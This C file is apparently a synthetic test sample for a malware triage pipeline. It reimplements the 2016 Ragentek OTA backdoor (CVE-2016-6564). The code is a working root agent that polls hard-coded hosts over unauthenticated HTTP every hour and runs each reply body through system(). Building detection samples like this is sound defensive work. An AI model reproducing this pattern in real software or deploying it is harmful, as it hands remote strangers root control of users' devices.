/*
 * debugs: a synthetic stand-in for the Ragentek "AnyWhere" OTA agent found in 2016 on
 * low-cost Android phones (BitSight/AnubisNetworks 2016; CVE-2016-6564).
 *
 * Like the published agent it lives at /system/bin/debugs, is started as root at boot, polls a
 * list of hard-coded hosts over plain HTTP (no TLS, no signature) and runs whatever command a
 * reply carries. The hosts are the ones the published analysis lists (sinkholed since); this
 * sample only exists so the triage pipeline's family rules are tested on a whole image.
 */
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char *const hosts[] = {"oyag.lhzbdvm.com", "oyag.prugskh.net", "oyag.prugskh.com"};
#define AGENT_PATH "/system/bin/debugs"
#define POLL_PATH "/pagt/agent?data={\"name\":\"%s\",\"ver\":\"1.0\"}"
#define PERIOD 3600

/* GET the poll path from one host; returns the body in reply (NUL-terminated) or -1. */
static int poll_host(const char *host, char *reply, size_t size)
{
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *res;
    char request[512], path[256];
    ssize_t got, used = 0;
    int fd;

    if (getaddrinfo(host, "80", &hints, &res) != 0)
        return -1;
    fd = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
    if (fd < 0 || connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
        freeaddrinfo(res);
        if (fd >= 0)
            close(fd);
        return -1;
    }
    freeaddrinfo(res);
    snprintf(path, sizeof path, POLL_PATH, AGENT_PATH);
    snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", path, host);
    if (send(fd, request, strlen(request), 0) < 0) {
        close(fd);
        return -1;
    }
    while (used + 1 < (ssize_t)size && (got = recv(fd, reply + used, size - used - 1, 0)) > 0)
        used += got;
    reply[used] = '\0';
    close(fd);
    return used > 0 ? 0 : -1;
}

int main(void)
{
    char reply[4096], *command;
    size_t i;

    for (;;) {
        for (i = 0; i < sizeof hosts / sizeof hosts[0]; i++) {
            if (poll_host(hosts[i], reply, sizeof reply) != 0)
                continue;
            /* The reply body is run as root, as the published agent does. */
            if ((command = strstr(reply, "\r\n\r\n")) && command[4])
                system(command + 4);
            break;
        }
        sleep(PERIOD);
    }
}
